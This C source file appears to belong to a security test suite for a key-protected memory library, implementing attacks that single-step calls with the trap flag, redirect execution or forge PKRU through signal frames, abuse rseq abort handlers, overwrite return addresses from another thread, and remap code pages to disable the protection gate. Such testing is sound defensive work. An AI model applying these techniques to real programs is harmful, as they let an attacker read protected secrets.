/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * by_call.c: the attacker waits until the library itself has opened the region, and then has the thread go where he
 * wants, or looks into its registers; or he changes the library's code.  Where exactly a call is interrupted must not
 * be left to luck: a trap behind each of its instructions stands for the signal, or the other thread, that is quick
 * enough.
 */
#include "attack.h"

#include <cpuid.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stddef.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <ucontext.h>

#define TRAP_FLAG 0x100ll
#define RSEQ_SIGNATURE 0x53053053

static const struct target *target;

/* Gets the loot in the middle of a call, with the stack as it was found there. */
__attribute__((noreturn, used, force_align_arg_pointer)) static void take_and_end(void) {
    memcpy(report->loot, target->page, LOOT_BYTES);
    atomic_store(&report->claim, DONE);
    _exit(0);
}

static uint64_t address_of_taker(void) {
    void (*taker)(void) = take_and_end;
    return (uint64_t)(uintptr_t)taker;
}

/* ---- step by step ------------------------------------------------------------------------------------------ */

/* Looks at a thread that is inside the library, with the region open.  True: it is to run on without steps. */
static bool (*at_step)(ucontext_t *context);

static void trapped(int signal, siginfo_t *info, void *given) {
    ucontext_t *context = given;
    (void)signal;
    (void)info;
    uint32_t bits = 3u << 2 * target->key;
    bool open = (register_in(context->uc_mcontext.fpregs) & bits) == 0;
    if (open && at_step(context)) {
        context->uc_mcontext.gregs[REG_EFL] &= ~TRAP_FLAG;
    }
}

/* A call, with a look behind each instruction. */
static enum claim step_through(const struct target *t, bool (*look)(ucontext_t *context)) {
    const struct sigaction action = {.sa_sigaction = trapped, .sa_flags = SA_SIGINFO};
    uint8_t small[sizeof t->small];
    plc_found found;
    target = t;
    at_step = look;
    warm_up(t);
    CHECK(sigaction(SIGTRAP, &action, NULL) == 0);
    __builtin_ia32_writeeflags_u64(__builtin_ia32_readeflags_u64() | TRAP_FLAG);
    plc_status s = plc_get(t->c, "small", 5, 0, small, sizeof small, &found);
    plc_status other = plc_delete(t->c, "none", 4); /* a get is one function; this has calls in its window */
    __builtin_ia32_writeeflags_u64(__builtin_ia32_readeflags_u64() & ~(unsigned long long)TRAP_FLAG);
    return s == PLC_OK && other == PLC_MISS ? REFUSED : broken(plc_status_text(s != PLC_OK ? s : other));
}

static bool redirect(ucontext_t *context) {
    context->uc_mcontext.gregs[REG_RIP] = (greg_t)address_of_taker();
    return true;
}

ATTACK(attack_sigctx_redirect) {
    return step_through(t, redirect);
}

/* All that a signal's frame has of registers: the general ones, and the saved area with all others. */
static bool in_registers(const ucontext_t *context, const uint8_t *bytes) {
    const uint8_t *area = (const uint8_t *)context->uc_mcontext.fpregs;
    uint32_t size;
    memcpy(&size, area + 464 + 4, sizeof size); /* fpx_sw_bytes.extended_size */
    return memmem(context->uc_mcontext.gregs, sizeof context->uc_mcontext.gregs, bytes, 8) != NULL ||
           memmem(area, size, bytes, 8) != NULL;
}

static bool seen;

static bool search_registers(ucontext_t *context) {
    seen = seen || in_registers(context, target->small) || in_registers(context, target->small + 8);
    return false;
}

ATTACK(attack_single_step_regs) {
    enum claim said = step_through(t, search_registers);
    note("the value was %s in a register", seen ? "seen" : "never");
    return said == REFUSED && seen ? DECEIVED : said;
}

/* ---- the frame of a signal --------------------------------------------------------------------------------- */

static void opens_in_frame(int signal, siginfo_t *info, void *given) {
    ucontext_t *context = given;
    const uint32_t open = 0;
    unsigned bytes = 0, offset = 0, c = 0, d = 0;
    (void)signal;
    (void)info;
    CHECK(__get_cpuid_count(0xd, 9, &bytes, &offset, &c, &d) != 0);
    memcpy((uint8_t *)context->uc_mcontext.fpregs + offset, &open, sizeof open);
}

ATTACK(attack_sigreturn_forge) {
    const struct sigaction action = {.sa_sigaction = opens_in_frame, .sa_flags = SA_SIGINFO};
    CHECK(sigaction(SIGUSR1, &action, NULL) == 0 && raise(SIGUSR1) == 0);
    enum claim said = loot_from(t->page);
    note("the register is %08x behind sigreturn", register_now());
    return said;
}

/* ---- restartable sequences ------------------------------------------------------------------------------- */

/* Where the kernel has a thread go on that was interrupted inside a sequence; the signature stands before it. */
__asm__(".pushsection .text\n"
        ".long 0x53053053\n"
        "attack_aborted:\n"
        "jmp take_and_end\n"
        ".popsection");
extern const uint8_t attack_aborted[];

extern const ptrdiff_t __rseq_offset __attribute__((weak));
extern const unsigned __rseq_size __attribute__((weak));

static struct {
    _Alignas(32) uint32_t version;
    uint32_t flags;
    uint64_t start, length, abort;
} sequence;
static _Alignas(32) uint32_t own_area[8];
static uint8_t *rseq_area;

/* The area that the thread has, libc's or one of its own.  False: there is no such thing here. */
static bool rseq_find(void) {
    if (&__rseq_size != NULL && __rseq_size != 0) {
        rseq_area = (uint8_t *)__builtin_thread_pointer() + __rseq_offset;
        return true;
    }
    rseq_area = (uint8_t *)own_area;
    return syscall(SYS_rseq, own_area, sizeof own_area, 0, RSEQ_SIGNATURE) == 0;
}

/* Says of the instructions around the interrupted one that they are a sequence; the next step is inside. */
static bool call_it_a_sequence(ucontext_t *context) {
    uint64_t at = (uint64_t)context->uc_mcontext.gregs[REG_RIP], pointer = (uint64_t)(uintptr_t)&sequence;
    if (at == (uint64_t)(uintptr_t)attack_aborted) {
        return true;
    }
    sequence.start = at;
    sequence.length = 64;
    sequence.abort = (uint64_t)(uintptr_t)attack_aborted;
    memcpy(rseq_area + 8, &pointer, sizeof pointer); /* rseq_cs */
    return false;
}

ATTACK(attack_rseq_abort) {
    if (!rseq_find()) {
        return errno == ENOSYS || errno == EPERM ? missing("the kernel or a sandbox has no rseq") : broken("rseq");
    }
    return step_through(t, call_it_a_sequence);
}

/* ---- the stack ---------------------------------------------------------------------------------------------- */

static _Atomic(uint64_t *) slot; /* of a return address, which the other thread is to overwrite */

static void *smashes(void *unused) {
    uint64_t *found;
    while ((found = atomic_load(&slot)) == NULL) {
        check_nap();
    }
    *found = address_of_taker();
    atomic_store(&slot, NULL);
    return unused;
}

/* Halts where a function of the core has just been entered that leaves the region open. */
static bool wait_for_smash(ucontext_t *context) {
    static uint64_t before;
    uint64_t at = (uint64_t)context->uc_mcontext.gregs[REG_RIP], last = before;
    uint64_t *top = (void *)(uintptr_t)context->uc_mcontext.gregs[REG_RSP];
    before = at;
    bool entered = last != 0 && *top - last <= 7 && at - last > 7; /* a call: its return address is on top */
    if (!entered || at == (uint64_t)(uintptr_t)domain_key_close) {
        return false;
    }
    atomic_store(&slot, top);
    while (atomic_load(&slot) != NULL) {
        check_nap();
    }
    return true;
}

ATTACK(attack_stack_smash_thread) {
    pthread_t other;
    CHECK(pthread_create(&other, NULL, smashes, NULL) == 0);
    return step_through(t, wait_for_smash);
}

/* ---- the code ------------------------------------------------------------------------------------------------ */

/* A page as it might be in any program: whoever jumps into it comes back with a status that is none. */
#define SLIDE_STATUS 0x4b4b
__asm__(".pushsection .text\n"
        ".balign 4096\n"
        "attack_slide:\n"
        ".fill 4090, 1, 0x90\n"
        "mov $0x4b4b, %eax\n"
        "ret\n"
        ".popsection");
extern const uint8_t attack_slide[];

static uint8_t *page_of(uint64_t function) {
    return (uint8_t *)(uintptr_t)(function & ~(uint64_t)(ATTACK_PAGE - 1));
}

static void move_code(const void *from, uint8_t *over) {
    CHECK(mremap((void *)(uintptr_t)from, ATTACK_PAGE, ATTACK_PAGE, MREMAP_MAYMOVE | MREMAP_FIXED, over) == over);
}

/* The page with the gate, but for one instruction: it does not close any more.  The copy is made before; what puts it
 * in place is no call that speaks of code. */
ATTACK(attack_mremap_text_outside) {
    uint8_t small[sizeof t->small], *over = page_of((uint64_t)(uintptr_t)domain_key_close);
    plc_found found;
    const uint8_t back = 0xc3;
    int fd = code_file();
    CHECK(write(fd, over, ATTACK_PAGE) == ATTACK_PAGE);
    CHECK(pwrite(fd, &back, 1, (off_t)((uint64_t)(uintptr_t)domain_key_close & (ATTACK_PAGE - 1))) == 1);
    const void *copy = mmap(NULL, ATTACK_PAGE, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
    CHECK(copy != MAP_FAILED);
    warm_up(t);
    move_code(copy, over);
    CHECK_STATUS(plc_get(t->c, "small", 5, 0, small, sizeof small, &found), PLC_OK);
    return loot_from(t->page);
}

/* Another page of the same program's code, over a function of the library. */
ATTACK(attack_mremap_text_in_slot) {
    uint8_t small[sizeof t->small], *over = page_of((uint64_t)(uintptr_t)plc_get);
    plc_found found;
    if (page_of((uint64_t)(uintptr_t)attack_mremap_text_in_slot) == over) {
        return broken("this function and plc_get share a page");
    }
    move_code(attack_slide, over);
    int status = (int)plc_get(t->c, "small", 5, 0, small, sizeof small, &found);
    note("plc_get is %s", status == SLIDE_STATUS ? "other code of the program" : "as it was");
    return status == SLIDE_STATUS ? DECEIVED : REFUSED;
}
